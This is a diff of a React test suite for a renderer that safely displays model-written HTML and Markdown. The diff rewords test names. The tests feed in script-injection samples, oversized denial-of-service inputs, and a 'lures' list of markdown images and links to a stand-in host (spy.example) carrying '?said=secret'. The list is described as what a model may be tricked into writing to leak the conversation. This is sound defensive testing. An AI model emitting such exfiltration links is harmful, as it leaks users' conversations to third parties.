@@ -14,7 +14,7 @@ beforeEach(() => {
 
 async function show(text: string, format: OutputFormat) {
   const { container } = render(<SafeContent text={`Begin\n\n${text}`} format={format} />)
-  // Until its code has come, the plain text stands in.
+  // The text is shown as is until the renderer has loaded.
   await waitFor(() => expect(container.querySelector('.whitespace-pre-line')).toBeNull())
   expect(container).toHaveTextContent('Begin')
   return container
@@ -37,7 +37,7 @@ const hostile = [
 const formats: OutputFormat[] = ['html', 'markdown', 'unknown']
 
 test.for(formats.flatMap((format) => hostile.map((text) => [format, text] as const)))(
-  'in %s, %s does nothing',
+  'in %s, %s has no effect',
   async ([format, text]) => {
     const container = await show(text, format)
     expect(container.querySelector('script, iframe, svg[onload], form, input, style, video, img, object')).toBeNull()
@@ -56,17 +56,17 @@ test.for([
   ['lists within lists', `${'- '.repeat(2_000)}words`],
   ['emphasis within emphasis', `${'*'.repeat(10_000)}words${'*'.repeat(10_000)}`],
   ['a table of millions of cells', `|${'words|'.repeat(2_000)}\n|${'-|'.repeat(2_000)}\n${'|x\n'.repeat(2_000)}`],
-] as const)('%s are shown as they were written', ([, text]) => {
+] as const)('%s are shown as is', ([, text]) => {
   const { container } = render(<MarkdownContent text={text} lists="plain" />)
   expect(container.innerHTML).toBe(`<p class="whitespace-pre-line">${text.replaceAll('>', '&gt;')}</p>`)
 })
 
-test('a table of hundreds of rows is drawn as one', () => {
+test('a table with hundreds of rows is rendered as a table', () => {
   render(<MarkdownContent text={`| What | Who |\n| --- | --- |\n${'| Plan | Ana |\n'.repeat(300)}`} lists="plain" />)
   expect(document.querySelectorAll('td')).toHaveLength(600)
 })
 
-test('what cannot be drawn is shown as it was written, and takes nothing else along', async () => {
+test('what can’t be rendered is shown as is, and doesn’t affect anything else', async () => {
   render(
     <>
       <SafeContent text={`${'<div>'.repeat(2_500)}Too deep`} format="html" />
@@ -79,7 +79,7 @@ test('what cannot be drawn is shown as it was written, and takes nothing else al
   vi.mocked(console.error).mockClear()
 })
 
-test('a time within a link of HTML stays a part of the link', async () => {
+test('a time within an HTML link stays part of the link', async () => {
   await show('<p><a href="https://example.com/">At [0:30]</a> and [0:40]</p>', 'html')
   expect(screen.getByRole('link', { name: 'At [0:30]' })).toBeVisible()
   expect(screen.getAllByRole('button').map((button) => button.textContent)).toEqual(['0:40'])
@@ -88,7 +88,7 @@ test('a time within a link of HTML stays a part of the link', async () => {
 test.for([
   ['html', '<p>See <a href="https://example.com/paper">the paper</a></p>'],
   ['markdown', 'See [the paper](https://example.com/paper)'],
-] as const)('a link in %s opens beside the app and tells nothing of it', async ([format, text]) => {
+] as const)('a link in %s opens in a new tab without a referrer', async ([format, text]) => {
   await show(text, format)
   const link = screen.getByRole('link', { name: 'the paper' })
   expect(link).toHaveAttribute('href', 'https://example.com/paper')
@@ -99,14 +99,14 @@ test.for([
 test.for([
   ['html', '<img src="https://spy.example/p.gif" alt="chart">'],
   ['markdown', '![chart](https://spy.example/p.gif)'],
-] as const)('a remote picture in %s is a link, never a request', async ([format, text]) => {
+] as const)('a remote image in %s is a link, never a request', async ([format, text]) => {
   const container = await show(text, format)
   expect(container.querySelector('img')).toBeNull()
   expect(container).toHaveTextContent('chart')
   expect(screen.getByRole('link', { name: 'Open on spy.example' })).toBeVisible()
 })
 
-/** What a model may be talked into writing, so that anyone who reads it sends away what was said. */
+/** What a model may be tricked into writing to make readers leak the conversation. */
 const lures = [
   '![](https://spy.example/p.gif?said=secret)',
   '[Press here](https://spy.example/?said=secret)',
@@ -117,7 +117,7 @@ const lures = [
 ]
 
 test.for(lures.flatMap((lure) => (['html', 'markdown'] as const).map((format) => [format, lure] as const)))(
-  'in %s, %s in the words of a model leads nowhere',
+  'in %s, %s in a model’s text leads nowhere',
   async ([format, lure]) => {
     const list = { kind: 'list' as const, lines: [{ label: lure, text: lure, startTime: 5 }] }
     const container = await show(
@@ -132,7 +132,7 @@ test.for(lures.flatMap((lure) => (['html', 'markdown'] as const).map((format) =>
 test.for([
   ['html', '<ul><li>Agreed [1:02:04]</li></ul>'],
   ['markdown', '- Agreed [1:02:04]'],
-] as const)('a time in %s is a chip that goes there', async ([format, text]) => {
+] as const)('a time in %s is a chip that seeks there', async ([format, text]) => {
   await show(text, format)
   await userEvent.click(screen.getByRole('button', { name: 'At 1:02:04' }))
   expect(usePlayback.getState().position).toBe(3600)
@@ -144,7 +144,7 @@ test('times in code and links stay text', async () => {
   expect(screen.queryByRole('button')).toBeNull()
 })
 
-test('Markdown tables are tables', async () => {
+test('Markdown tables are rendered as tables', async () => {
   await show('| Year | Seats |\n|---|---|\n| 2026 | 240 |', 'markdown')
   expect(screen.getByRole('cell', { name: '240' })).toBeVisible()
 })
